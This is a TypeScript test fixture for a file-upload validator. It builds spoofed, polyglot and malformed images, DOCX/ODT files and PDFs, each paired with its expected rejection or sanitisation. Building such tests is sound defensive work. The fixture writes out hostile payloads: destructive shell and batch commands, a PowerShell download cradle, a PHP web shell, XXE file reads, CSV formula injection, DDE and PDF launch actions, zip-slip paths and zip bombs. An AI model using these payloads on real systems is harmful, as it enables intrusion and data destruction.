import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { aPdf } from './attachments.js';
import { aDocx, aMacroDocx, anOdt, aZip, docxParts, odtParts } from './zips.js';

/** A file as an attacker makes it, and what becomes of it: refused with a reason, or taken without the words that made it hostile. */
export interface HostileFile {
  what: string;
  name?: string;
  bytes: () => Buffer | Promise<Buffer>;
  becomes:
    | 'typeNotAccepted'
    | 'damaged'
    | 'tooManyPixels'
    | 'tooMuchInside'
    | 'activeContent'
    | 'encrypted'
    | 'empty'
    | 'tooLarge'
    | { without: string };
}
type Row = [
  what: string,
  bytes: HostileFile['bytes'] | string,
  becomes: HostileFile['becomes'],
  name?: string,
];

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
/** The same number of bytes, so that offsets stay right: how names get into a zip that no honest program writes. */
const replaced = (bytes: Buffer, from: string, to: string): Buffer =>
  latin(bytes.toString('latin1').replaceAll(from, to));
const picture = (width = 30, height = 20) =>
  sharp({ create: { width, height, channels: 3, background: '#a40' } });
const jpeg = () => picture().jpeg().toBuffer();
const png = () => picture().png().toBuffer();
const webp = () => picture().webp().toBuffer();
const cutShort = async (bytes: Promise<Buffer>, part = 0.6): Promise<Buffer> =>
  bytes.then((all) => all.subarray(0, Math.floor(all.length * part)));
const noise = () =>
  sharp({
    create: {
      width: 200,
      height: 200,
      channels: 3,
      background: '#000',
      noise: { type: 'gaussian', mean: 120, sigma: 60 },
    },
  });
const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
/** A PNG that says how large it is, and nothing more. */
const pngHead = (width: number, height: number): Buffer =>
  Buffer.concat([
    latin('\x89PNG\r\n\x1A\n'),
    u32(13),
    latin('IHDR'),
    u32(width),
    u32(height),
    latin('\x08\x02\x00\x00\x00'),
    u32(0),
    u32(0),
    latin('IDAT'),
    u32(0),
  ]);

/** None of these is what its name says. */
const spoofed: Row[] = [
  ['a Windows program', 'MZ\x90\0This program cannot be run in DOS mode', 'typeNotAccepted'],
  ['a Linux program', '\x7FELF\x02\x01\x01', 'typeNotAccepted'],
  ['a macOS program', '\xCF\xFA\xED\xFE\x07\0\0\x01', 'typeNotAccepted'],
  ['a Java class', '\xCA\xFE\xBA\xBE\0\0\0\x34', 'typeNotAccepted'],
  ['a WebAssembly module', '\0asm\x01\0\0\0', 'typeNotAccepted'],
  ['a shell script', '#!/bin/sh\nrm -rf /\n', 'typeNotAccepted'],
  ['a batch file', '@echo off\r\ndel /q *\r\n', 'typeNotAccepted'],
  ['a PowerShell script', 'Invoke-Expression (New-Object Net.WebClient)', 'typeNotAccepted'],
  ['a page', '<!doctype html><script>alert(1)</script>', 'typeNotAccepted', 'kuva.jpg'],
  ['a page in UTF-16', '\xFF\xFE<\0s\0c\0r\0i\0p\0t\0>\0', 'typeNotAccepted', 'kuva.jpg'],
  [
    'an SVG with a script',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    'typeNotAccepted',
    'kuva.png',
  ],
  [
    'an SVG that reads files',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    'typeNotAccepted',
    'kuva.svg',
  ],
  ['a compressed SVG', '\x1F\x8B\x08\0\0\0\0\0', 'typeNotAccepted', 'kuva.svgz'],
  [
    'XML that explodes',
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>',
    'typeNotAccepted',
  ],
  ['a PHP page', '<?php system($_GET["c"]); ?>', 'typeNotAccepted', 'kuva.php.jpg'],
  ['a GIF', 'GIF89a\x01\0\x01\0', 'typeNotAccepted', 'kuva.gif'],
  ['a GIF that is a script', 'GIF89a=1;alert(1)//', 'typeNotAccepted', 'kuva.png'],
  ['a HEIC', '\0\0\0\x18ftypheic\0\0\0\0', 'typeNotAccepted', 'kuva.heic'],
  ['an AVIF', '\0\0\0\x1Cftypavif\0\0\0\0', 'typeNotAccepted', 'kuva.jpg'],
  ['a BMP', 'BM\x46\0\0\0', 'typeNotAccepted'],
  ['a TIFF', 'II*\0\x08\0\0\0', 'typeNotAccepted'],
  ['an icon', '\0\0\x01\0\x01\0', 'typeNotAccepted'],
  ['a video', '\0\0\0\x18ftypmp42', 'typeNotAccepted'],
  ['sound that begins as a WebP does', 'RIFF\x24\0\0\0WAVEfmt ', 'typeNotAccepted', 'kuva.webp'],
  ['an old Word file', '\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1WordDocument', 'typeNotAccepted', 'muistio.docx'],
  [
    'an old Word file with macros',
    '\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1_VBA_PROJECT',
    'typeNotAccepted',
    'muistio.docx',
  ],
  ['rich text with an object', '{\\rtf1{\\object\\objupdate}}', 'typeNotAccepted', 'muistio.docx'],
  ['a shortcut', 'L\0\0\0\x01\x14\x02\0', 'typeNotAccepted', 'muistio.pdf.lnk'],
  ['a RAR', 'Rar!\x1A\x07\0', 'typeNotAccepted'],
  ['a 7z', "7z\xBC\xAF'\x1C", 'typeNotAccepted'],
  ['a tar', `${'a'.repeat(257)}ustar\0`, 'typeNotAccepted'],
  ['a disk image', `${'\0'.repeat(32_769)}CD001`, 'typeNotAccepted'],
  ['a database', 'SQLite format 3\0', 'typeNotAccepted'],
  ['a mail', 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>', 'typeNotAccepted'],
  ['a table with a formula', "=cmd|' /C calc'!A0;1\r\n", 'typeNotAccepted', 'lista.csv'],
  ['one null byte', '\0', 'typeNotAccepted'],
  ['nothing at all', '', 'empty'],
  ['one byte too many', () => Buffer.alloc(10 * 1024 * 1024 + 1, '%PDF-'), 'tooLarge'],
];

/** Two files in one: the second is gone, or both are. */
const polyglots: Row[] = [
  [
    'a page in front of a PDF',
    () => Buffer.concat([latin('<script>alert(1)</script>\n'), aPdf()]),
    'typeNotAccepted',
  ],
  [
    'a mark of order in front of a PDF',
    () => Buffer.concat([latin('\xEF\xBB\xBF'), aPdf()]),
    'typeNotAccepted',
  ],
  ['a zip behind a PDF', async () => Buffer.concat([aPdf(), await aDocx()]), 'damaged'],
  ['a program behind a PDF', () => Buffer.concat([aPdf(), Buffer.alloc(4_096, 'MZ')]), 'damaged'],
  [
    'a page behind a JPEG',
    async () => Buffer.concat([await jpeg(), latin('<script>alert(1)</script>')]),
    { without: '<script>' },
  ],
  [
    'a zip behind a PNG',
    async () => Buffer.concat([await png(), await aZip({ 'virus.exe': 'MZ' })]),
    { without: 'virus.exe' },
  ],
  [
    'a script behind a WebP',
    async () => Buffer.concat([await webp(), latin('<?php echo 1; ?>')]),
    { without: '<?php' },
  ],
  [
    'a page in a JPEG’s comment',
    async () => withComment(await jpeg(), '<script>alert(1)</script>'),
    { without: '<script>' },
  ],
  [
    'a script in a PNG’s text',
    async () => withText(await png(), '<?php system(1); ?>'),
    { without: '<?php' },
  ],
  [
    'a program in front of a DOCX',
    async () => Buffer.concat([latin('MZ\x90\0'), await aDocx()]),
    'typeNotAccepted',
  ],
  ['a PDF head on a page', '%PDF-1.7\n<script>alert(1)</script>', 'damaged'],
  ['a JPEG head on a page', '\xFF\xD8\xFF\xE0\0\x10JFIF\0<script>alert(1)</script>', 'damaged'],
  ['a PNG head on a page', '\x89PNG\r\n\x1A\n<script>alert(1)</script>', 'damaged'],
  ['a WebP head on a page', 'RIFF\x20\0\0\0WEBPVP8 <script>alert(1)</script>', 'damaged'],
];

const withComment = (bytes: Buffer, text: string): Buffer => {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([bytes.subarray(0, 2), latin('\xFF\xFE'), length, latin(text), bytes.subarray(2)]);
};
/** After the head of 33 bytes; a wrong checksum is forgiven in what a picture does not need. */
const withText = (bytes: Buffer, text: string): Buffer =>
  Buffer.concat([
    bytes.subarray(0, 33),
    u32(text.length + 8),
    latin('tEXt'),
    latin(`Comment\0${text}`),
    u32(0),
    bytes.subarray(33),
  ]);

const pictures: Row[] = [
  [
    'a picture of more than fifty million pixels',
    () => picture(7_080, 7_080).png().toBuffer(),
    'tooManyPixels',
  ],
  ['a picture that says it has a milliard pixels', () => pngHead(32_000, 32_000), 'tooManyPixels'],
  ['a picture wider than any screen', () => picture(16_000, 3_200).jpeg().toBuffer(), 'tooManyPixels'],
  ['a picture of no width', () => pngHead(0, 20), 'damaged'],
  ['a JPEG that breaks off', () => cutShort(noise().jpeg().toBuffer()), 'damaged'],
  ['a PNG that breaks off', () => cutShort(noise().png().toBuffer()), 'damaged'],
  ['a WebP that breaks off', () => cutShort(noise().webp().toBuffer()), 'damaged'],
  [
    'a photo that tells where it was taken',
    () =>
      picture()
        .jpeg()
        .withExif({ IFD3: { GPSLatitude: '61/1', GPSMapDatum: 'KOTIOSOITE' } })
        .toBuffer(),
    { without: 'KOTIOSOITE' },
  ],
  [
    'a photo with its owner’s name',
    () =>
      picture()
        .webp()
        .withExif({ IFD0: { Artist: 'OMISTAJA' } })
        .toBuffer(),
    { without: 'OMISTAJA' },
  ],
  ['a PNG named as a program', png, { without: 'MZ\x90' }, 'kuva.png.exe'],
];

const documents: Row[] = [
  ['a zip bomb', () => aDocx({ 'word/media/a.xml': Buffer.alloc(30 * 1024 * 1024) }), 'tooMuchInside'],
  [
    'a zip bomb in many parts',
    () =>
      aDocx(
        Object.fromEntries(
          Array.from({ length: 40 }, (_, n) => [`word/media/${n}.xml`, Buffer.alloc(1024 * 1024)]),
        ),
      ),
    'tooMuchInside',
  ],
  [
    'a zip bomb that lies about its size',
    async () =>
      lyingAboutSize(await aDocx({ 'word/media/bomb.xml': Buffer.alloc(9_000_000, 'a') }), 9_000_000),
    'damaged',
  ],
  [
    'more parts than any document has',
    () => aDocx(Object.fromEntries(Array.from({ length: 2_000 }, (_, n) => [`word/${n}.xml`, 'x']))),
    'tooMuchInside',
  ],
  [
    'a part that climbs out of its folder',
    async () => replaced(await aDocx({ 'xx/xx/etc/passwd': 'root' }), 'xx/xx/etc', '../../etc'),
    'damaged',
  ],
  [
    'a part with a path of its own',
    async () => replaced(await aDocx({ 'xetc/passwd': 'root' }), 'xetc/', '/etc/'),
    'damaged',
  ],
  [
    'a part that climbs out in Windows',
    async () => replaced(await aDocx({ 'xx_xx_win.xml': 'x' }), 'xx_xx_win', '..\\..\\win'),
    'damaged',
  ],
  [
    'a part on a drive',
    async () => replaced(await aDocx({ 'Cx/win.xml': 'x' }), 'Cx/win', 'C:/win'),
    'damaged',
  ],
  [
    'two parts of one name',
    async () =>
      replaced(await aDocx({ 'word/documenx.xml': '<evil/>' }), 'word/documenx.xml', 'word/document.xml'),
    'damaged',
  ],
  ['a DOCX with macros', () => aDocx({ 'word/vbaProject.bin': 'Sub AutoOpen()' }), 'activeContent'],
  ['a DOCX that calls itself macro-enabled', aMacroDocx, 'activeContent'],
  ['a DOCX with a control', () => aDocx({ 'word/activeX/activeX1.xml': '<ax/>' }), 'activeContent'],
  [
    'a DOCX with an object',
    () => aDocx({ 'word/embeddings/oleObject1.bin': '\xD0\xCF\x11\xE0' }),
    'activeContent',
  ],
  [
    'a DOCX with a program',
    () => aDocx({ 'word/media/kuva.png': 'MZ\x90\0This program cannot be run in DOS mode' }),
    'activeContent',
  ],
  [
    'a DOCX with a template from elsewhere',
    () =>
      aDocx({
        'word/_rels/settings.xml.rels':
          '<Relationship Type="x/attachedTemplate" Target="http://a/x.dotm" TargetMode="External"/>',
      }),
    'activeContent',
  ],
  [
    'a DOCX that runs a field',
    () => aDocx({ 'word/footer1.xml': '<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText>' }),
    'activeContent',
  ],
  [
    'a DOCX that reads files',
    () => aDocx({ 'word/header1.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' }),
    'activeContent',
  ],
  [
    'a DOCX that explodes',
    () => aDocx({ 'word/styles.xml': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>' }),
    'activeContent',
  ],
  ['a DOCX with a page', () => aDocx({ 'word/afchunk.html': '<script>alert(1)</script>' }), 'activeContent'],
  ['an ODT with macros', () => anOdt({ 'Basic/Standard/Module1.xml': 'Shell("calc")' }), 'activeContent'],
  ['an ODT with a script', () => anOdt({ 'Scripts/python/a.py': 'import os' }), 'activeContent'],
  [
    'an ODT that listens to events',
    () => aZip({ ...odtParts, 'content.xml': '<script:event-listener xlink:href="vnd.sun.star.script:x"/>' }),
    'activeContent',
  ],
  [
    'an ODT under a password',
    () => aZip({ ...odtParts, 'META-INF/manifest.xml': '<manifest:encryption-data/>' }),
    'encrypted',
  ],
  ['a DOCX under a password', async () => markedEncrypted(await aDocx()), 'encrypted'],
  ['any zip', () => aZip({ 'lue.txt': 'x' }), 'typeNotAccepted', 'muistio.docx'],
  [
    'a spreadsheet',
    () => aZip({ ...docxParts, '[Content_Types].xml': 'spreadsheetml.sheet.main+xml' }),
    'typeNotAccepted',
    'muistio.docx',
  ],
  [
    'a Java archive',
    () => aZip({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': '\xCA\xFE' }),
    'activeContent',
    'muistio.docx',
  ],
  [
    'a book',
    () => aZip({ mimetype: 'application/epub+zip', 'content.xml': '', 'META-INF/manifest.xml': '' }),
    'typeNotAccepted',
    'muistio.odt',
  ],
  ['a DOCX that breaks off', () => cutShort(aDocx()), 'damaged'],
  ['a DOCX with a tail', async () => Buffer.concat([await aDocx(), latin('MZ'.repeat(100))]), 'damaged'],
  ['a zip of nothing', 'PK\x05\x06' + '\0'.repeat(18), 'typeNotAccepted'],
];

/** The size that the central directory tells of, made smaller. */
const lyingAboutSize = (zip: Buffer, size: number): Buffer => {
  const [true4, lie4] = [Buffer.alloc(4), Buffer.alloc(4)];
  true4.writeUInt32LE(size);
  lie4.writeUInt32LE(100);
  return replaced(zip, true4.toString('latin1'), lie4.toString('latin1'));
};
/** Bit 0 of the flags of every part, in both of its heads. */
const markedEncrypted = (zip: Buffer): Buffer => {
  for (const [mark, at] of [
    ['PK\x03\x04', 6],
    ['PK\x01\x02', 8],
  ] as const) {
    for (
      let found = zip.indexOf(mark, 0, 'latin1');
      found >= 0;
      found = zip.indexOf(mark, found + 4, 'latin1')
    )
      zip[found + at] = (zip[found + at] ?? 0) | 1;
  }
  return zip;
};

const objectStream = (objects: string | Buffer, filter = '/FlateDecode'): string =>
  `5 0 obj<</Type/ObjStm/N 1/First 4/Filter ${filter}/Length 1>>stream\n${deflateSync(Buffer.from(objects)).toString('latin1')}\nendstream endobj\n`;

const pdfs: Row[] = [
  [
    'a PDF that runs a script as it opens',
    () => aPdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
    'activeContent',
  ],
  [
    'a PDF that hides the word',
    () => aPdf('/OpenAction<</S/J#61va#53cript/#4AS(app.alert(1))>>'),
    'activeContent',
  ],
  [
    'a PDF that hides a script in a stream',
    () => aPdf('', objectStream('1 0 <</S/JavaScript/JS(app.alert(1))>>')),
    'activeContent',
  ],
  [
    'a PDF whose stream nobody can look into',
    () => aPdf('', objectStream('1 0 <<>>', '[/ASCIIHexDecode/FlateDecode]')),
    'activeContent',
  ],
  [
    'a PDF whose stream explodes',
    () => aPdf('', objectStream(Buffer.alloc(40 * 1024 * 1024))),
    'tooMuchInside',
  ],
  [
    'a PDF of more streams than anybody looks into',
    () => aPdf('', objectStream('').repeat(2_001)),
    'tooMuchInside',
  ],
  ['a PDF that starts a program', () => aPdf('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'activeContent'],
  [
    'a PDF with a file in it',
    () => aPdf('/Names<</EmbeddedFiles<</Names[(a.exe) 9 0 R]>>>>'),
    'activeContent',
  ],
  ['a PDF that sends a form away', () => aPdf('/AA<</O<</S/SubmitForm/F(http://a)>>>>'), 'activeContent'],
  ['a PDF form of the old kind', () => aPdf('/AcroForm<</XFA 9 0 R>>'), 'activeContent'],
  ['a PDF with a film', () => aPdf('/Annots[<</Subtype/RichMedia>>]'), 'activeContent'],
  ['a PDF under a password', () => aPdf('/Encrypt 9 0 R'), 'encrypted'],
  [
    'a PDF under a password, with a script',
    () => aPdf('/Encrypt 9 0 R/OpenAction<</S/JavaScript/JS 9 0 R>>'),
    'encrypted',
  ],
  ['a PDF that breaks off', () => aPdf().subarray(0, 150), 'damaged'],
  ['a PDF without its table', '%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF', 'damaged'],
];

export const hostileFiles: HostileFile[] = [...spoofed, ...polyglots, ...pictures, ...documents, ...pdfs].map(
  ([what, bytes, becomes, name]) => ({
    what,
    bytes: typeof bytes === 'string' ? () => latin(bytes) : bytes,
    becomes,
    ...(name ? { name } : {}),
  }),
);
